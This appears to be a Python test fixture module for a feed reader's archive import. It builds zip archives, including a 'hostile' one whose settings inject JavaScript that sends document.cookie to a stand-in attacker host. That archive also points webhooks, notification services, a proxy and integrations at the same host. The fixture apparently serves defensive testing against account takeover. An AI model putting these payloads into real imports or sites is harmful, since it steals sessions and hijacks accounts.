"""Archives as somebody else might write them."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Mapping
from typing import Any

FEED_URL = "https://feeds.example.org/news.xml"
# Settings with which the file of a stranger takes over an account.
HOSTILE_SETTINGS: Mapping[str, Any] = {
    "custom_js": "fetch('https://stranger.example/?' + document.cookie)",
    "stylesheet": "body { background: url(https://stranger.example/) }",
    "external_font_hosts": "fonts.stranger.example",
    "block_filter_entry_rules": "EntryTitle=.*",
    "keep_filter_entry_rules": "EntryTitle=nothing",
    "allow_account_password_in_apps": True,
    "proxies_pictures": False,
    "saves_starred": True,
}
HOSTILE_FEED_SETTINGS: Mapping[str, Any] = {
    "webhook_url": "https://stranger.example/hook",
    "apprise_service_urls": "json://stranger.example",
    "ntfy_enabled": True,
    "ntfy_topic": "stranger",
    "pushover_enabled": True,
    "proxy_url": "http://proxy.stranger.example:3128",
    "allow_self_signed_certificates": True,
}
HOSTILE_INTEGRATIONS: Mapping[str, Any] = {
    "webhook": {"enabled": True, "url": "https://stranger.example/hook"},
    "linkding": {"enabled": True, "url": "https://stranger.example/", "token": "theirs"},
}


def archive(
    settings: Mapping[str, Any] | None = None,
    feed_settings: Mapping[str, Any] | None = None,
    integrations: Mapping[str, Any] | None = None,
) -> bytes:
    """Return an archive with one feed and no entry."""
    feed = {"number": 1, "category": "News", "feed_url": FEED_URL, "title": "News", "settings": feed_settings or {}}
    lines: dict[str, list[dict[str, Any]]] = {"categories.jsonl": [{"title": "News"}], "feeds.jsonl": [feed]}
    lines |= {name: [] for name in ("labels.jsonl", "entries.jsonl", "deleted_entries.jsonl")}
    manifest = {
        "format": "tidings-archive", "version": 1, "application": "Tidings 9", "created_at": "2026-01-01T00:00:00Z",
        "username": "stranger", "has_secrets": True, "counts": {name: len(of) for name, of in lines.items()},
    }  # fmt: skip
    members = {name: "".join(json.dumps(line) + "\n" for line in of) for name, of in lines.items()}
    members |= {
        "settings.json": json.dumps(settings or {}),
        "integrations.json": json.dumps(integrations or {}),
        "manifest.json": json.dumps(manifest),
    }
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as target:
        for name, content in members.items():
            target.writestr(name, content)
    return written.getvalue()


def hostile_archive(**settings: Any) -> bytes:
    """Return an archive with everything that takes over an account. settings: further ones of the user."""
    return archive({**HOSTILE_SETTINGS, **settings}, HOSTILE_FEED_SETTINGS, HOSTILE_INTEGRATIONS)
